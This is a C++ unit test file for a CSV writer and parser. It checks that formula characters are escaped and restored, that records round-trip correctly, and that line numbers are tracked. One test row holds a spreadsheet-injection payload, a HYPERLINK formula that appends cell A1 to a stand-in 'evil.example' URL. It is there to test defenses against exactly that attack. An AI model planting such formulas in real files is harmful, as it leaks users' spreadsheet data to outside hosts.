#include "core/csv.hpp"

#include <gtest/gtest.h>

namespace cqdt {
namespace {

TEST(CsvTest, NeutralizesEveryFormulaTrigger) {
  EXPECT_EQ(CsvField("=HYPERLINK(\"https://x\")"), "\"'=HYPERLINK(\"\"https://x\"\")\"");
  EXPECT_EQ(CsvField("+84 296 3852 000"), "'+84 296 3852 000");
  EXPECT_EQ(CsvField("-"), "'-");
  EXPECT_EQ(CsvField("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(CsvField("\t=1+1"), "'\t=1+1");
  EXPECT_EQ(CsvField("\r=1+1"), "\"'\r=1+1\"");
  EXPECT_EQ(CsvField("'quoted"), "''quoted");
  // Ordinary values are written as they are.
  EXPECT_EQ(CsvField("Sở Nội vụ"), "Sở Nội vụ");
  EXPECT_EQ(CsvField("a=b"), "a=b");
  EXPECT_EQ(CsvField(""), "");
  EXPECT_EQ(CsvField("Sở Văn hóa, Thể thao"), "\"Sở Văn hóa, Thể thao\"");
}

TEST(CsvTest, RestoreIsTheInverseOfNeutralize) {
  for (const char* v : {"=1+1", "+84 296 3852 000", "-", "@x", "\tx", "\rx", "'", "'=x", "''",
                        "'abc", "abc", "", "Nguyễn Văn A"}) {
    EXPECT_EQ(RestoreCell(NeutralizeCell(v)), v) << v;
  }
  // An apostrophe an officer typed in Excel to keep a phone as text is dropped...
  EXPECT_EQ(RestoreCell("'+84 296 3852 000"), "+84 296 3852 000");
  // ...but an apostrophe before anything else is data.
  EXPECT_EQ(RestoreCell("'abc"), "'abc");
}

TEST(CsvTest, RoundTripsRecordsThroughWriteAndParse) {
  std::vector<std::vector<std::string>> rows = {
      {"code", "name", "phone"},
      {"000.00.01.H01", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm\")", "+84 296 3852 000"},
      {"000.00.02.H01", "Dòng \"hai\",\r\ncó xuống dòng", "-"},
      {"000.00.03.H01", "'=already escaped", "@"},
  };
  std::string text;
  for (const auto& r : rows) {
    WriteCsvRow(text, r);
  }
  // Nothing in the file starts a cell with a formula character.
  EXPECT_EQ(text.find(",=H"), std::string::npos);
  EXPECT_EQ(text.find(",\"=H"), std::string::npos);
  std::vector<CsvRecord> records;
  ASSERT_TRUE(ParseCsv(text, records));
  ASSERT_EQ(records.size(), rows.size());
  for (std::size_t i = 0; i < rows.size(); ++i) {
    EXPECT_EQ(records[i].fields, rows[i]) << i;
  }
  // Lines as the user sees them: the record after the two-line field starts on line 5.
  EXPECT_EQ(records[0].line, 1);
  EXPECT_EQ(records[1].line, 2);
  EXPECT_EQ(records[2].line, 3);
  EXPECT_EQ(records[3].line, 5);
}

TEST(CsvTest, SkipsBlankLinesAndRejectsUnterminatedQuote) {
  std::vector<CsvRecord> records;
  ASSERT_TRUE(ParseCsv("a,b\n\n1,2\n", records));
  ASSERT_EQ(records.size(), 2u);
  EXPECT_EQ(records[1].line, 3);
  EXPECT_EQ(records[1].fields, (std::vector<std::string>{"1", "2"}));
  std::vector<CsvRecord> broken;
  EXPECT_FALSE(ParseCsv("a,b\n\"x,y", broken));
}

}  // namespace
}  // namespace cqdt
